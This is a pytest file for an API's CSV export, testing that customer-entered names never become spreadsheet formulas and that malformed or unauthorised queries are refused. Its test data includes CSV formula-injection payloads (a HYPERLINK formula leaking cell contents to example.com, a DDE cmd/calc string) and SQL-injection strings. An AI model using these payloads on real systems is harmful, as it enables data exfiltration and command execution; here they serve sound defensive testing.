"""CSV over HTTP: what customers wrote is text in a spreadsheet, and never a formula."""

import csv
import io
from collections.abc import Callable
from typing import Any
from uuid import uuid4

import pytest

CSV = {"Accept": "text/csv"}
FIGURES = {"Accept-Profile": "analytics"}

HOSTILE = [
    '=HYPERLINK("https://example.com/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1)",
    'say "hi", =1',
]


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def writer(sign_up: Callable[..., Any]) -> Any:
    """Have plants with odd names, as many as a trial may."""
    owner = sign_up("Formula Works")
    answer = owner.call("create_plants", names=HOSTILE)
    assert answer.status_code == 200, answer.text
    return owner


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_is_no_formula(name: str, writer: Any) -> None:
    answer = writer.request("GET", "plants", headers=CSV)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    written = {row["name"] for row in read(answer.text)}
    assert name in {cell.removeprefix("'") for cell in written}
    assert not [cell for cell in written if cell[:1] in "=+-@\t\r"]
    chosen = {"name": f"eq.{name}", "select": "name,id"}
    [row] = read(writer.request("GET", "plants", params=chosen, headers=CSV).text)
    assert list(row) == ["name", "id"]
    assert (row["name"].removeprefix("'"), row["name"] in written) == (name, True)
    assert writer.request("GET", "plants?select=unheard,id", headers=CSV).status_code == 400


def test_numbers_stay_numbers_and_yes_is_one(staff: Any) -> None:
    answer = staff.request("GET", "mrr_movements", headers={**FIGURES, **CSV})
    assert answer.status_code == 200
    for row in read(answer.text):
        assert row["is_partial"] in ("0", "1")
        assert float(row["mrr_end"]) >= 0


def test_functions_take_arguments_and_columns(staff: Any) -> None:
    query = "rpc/mrr_movements?grain=week&from_date=2026%2D01%2D05&as_of=2026-02-01"
    meant = staff.request("GET", query, headers=FIGURES).json()
    answer = staff.request("GET", f"{query}&select=month,mrr_end", headers={**FIGURES, **CSV})
    assert answer.status_code == 200, answer.text
    assert [(row["month"], float(row["mrr_end"])) for row in read(answer.text)] == [
        (row["month"], float(row["mrr_end"])) for row in meant
    ]
    assert len(meant) == 4


@pytest.mark.parametrize(
    "filters",
    [
        "",
        "&month=gte.2026-02-02",
        "&month=gt.2026-01-12&month=lt.2026%2D02%2D09",
        "&month=lte.2026-01-19",
        "&close_day=eq.2026-01-25&is_partial=eq.false",
        "&month=eq.1999-01-01",
    ],
)
def test_rows_are_chosen_as_those_of_json(filters: str, staff: Any) -> None:
    query = f"rpc/mrr_movements?grain=week&from_date=2026-01-05&as_of=2026-02-28{filters}"
    meant = staff.request("GET", query, headers=FIGURES).json()
    answer = staff.request("GET", query, headers={**FIGURES, **CSV})
    assert answer.status_code == 200, answer.text
    assert [row["month"] for row in read(answer.text)] == [row["month"] for row in meant]


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("rpc/mrr_movements?unheard=eq.1", 400),
        ("rpc/mrr_movements?month=eq.soon", 400),
        ("rpc/mrr_movements?month=eq.2026-01-01' or true--", 400),
        ("rpc/mrr_movements?grain=year", 400),
        ("rpc/mrr_movements?as_of=soon", 400),
        ("rpc/mrr_movements?unheard=of", 404),
        ("rpc/mrr_movements?select=unheard", 400),
        ("rpc/mrr_movements?grain=month');select 1;--", 400),
        ("rpc/unheard", 404),
        ("rpc/rebuild_totals?currency=usd&as_of=2026-01-31&known_at=2026-01-31", 403),
    ],
)
def test_what_is_wrong_is_said(query: str, status: int, staff: Any) -> None:
    answer = staff.request("GET", query, headers={**FIGURES, **CSV})
    assert answer.status_code == status, answer.text


def test_nobody_reads_more_than_without(acme: Any, http: Any) -> None:
    for path in ("rpc/mrr_movements", "mrr_movements?select=month"):
        headers = {**FIGURES, **CSV}
        assert acme.request("GET", path, headers=headers).status_code == 403
        assert http.get(path, headers=headers).status_code == 401


def test_nothing_is_written_by_reading(acme: Any) -> None:
    answer = acme.request("GET", "rpc/create_plant?name=Read", headers=CSV)
    assert answer.status_code == 405, answer.text
    assert acme.get("plants?name=eq.Read") == []


def test_what_the_gateway_says_nobody_else_does(acme: Any) -> None:
    headers = {"X-CSV-Function": "my_organizations", "X-CSV-Columns": "id", "X-CSV-Schema": "api"}
    answer = acme.request("GET", "rpc/write_csv", headers=headers)
    assert answer.status_code == 400, answer.text
    answer = acme.request("GET", "organization", headers={**CSV, **headers})
    assert {"id", "name"} <= set(answer.text.splitlines()[0].replace('"', "").split(","))


@pytest.mark.parametrize(
    "path",
    [
        "rpc/write_csv",
        "plants?select=name::text",
        "plants?select=*",
        "invoices?select=id,payments(id)",
    ],
)
@pytest.mark.parametrize("accept", ["text/csv", "TEXT/CSV", "application/json;q=0.1, text/csv"])
def test_what_is_no_plain_table_is_refused(accept: str, path: str, acme: Any) -> None:
    answer = acme.request("GET", path, headers={"Accept": accept})
    assert (answer.status_code, answer.json()["code"]) == (406, "csv_refused")


def test_a_link_has_all_rows_of_a_view(staff: Any, database: Any) -> None:
    """However many: PostgREST itself ends at a thousand."""
    prefix = uuid4().hex
    database.execute(
        """
        insert into notify.suppressions (address, reason, created_at)
        select n || '.' || %s || '@example.com', 'bounce', now() from generate_series(1, 1100) as n
        """,
        [prefix],
    )
    search = f'order=address.desc&or=(address.ilike."%25{prefix}%25",reason.ilike."%25{prefix}%25")'
    answer = staff.request("GET", f"csv/admin/email_suppressions?{search}")
    assert answer.headers["content-type"].startswith("text/csv")
    addresses = [row["address"] for row in read(answer.text)]
    assert len(addresses) == 1100
    assert addresses == sorted(addresses, reverse=True)
    database.execute("delete from notify.suppressions where address like %s", [f"%{prefix}%"])


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("admin/jobs?requested_at=is.null&name=eq.check_seals", 200),
        ("admin/jobs?last_run_id=not.is.null&order=name.asc,schedule.desc&select=name", 200),
        ("analytics/mrr_movements?grain=week&as_of=2026-02-01", 200),
        ("admin/jobs?unheard=eq.1", 400),
        ("admin/jobs?name=like.x", 404),
        ("admin/jobs?order=name);select 1--", 400),
        ("admin/jobs?or=(name.ilike.x)", 400),
        ("admin/unheard", 404),
        ("identity/users", 404),
    ],
)
def test_links_understand_what_lists_ask(path: str, status: int, staff: Any, acme: Any) -> None:
    assert staff.request("GET", f"csv/{path}").status_code == status
    assert acme.request("GET", f"csv/{path}").status_code in (400, 403, 404)
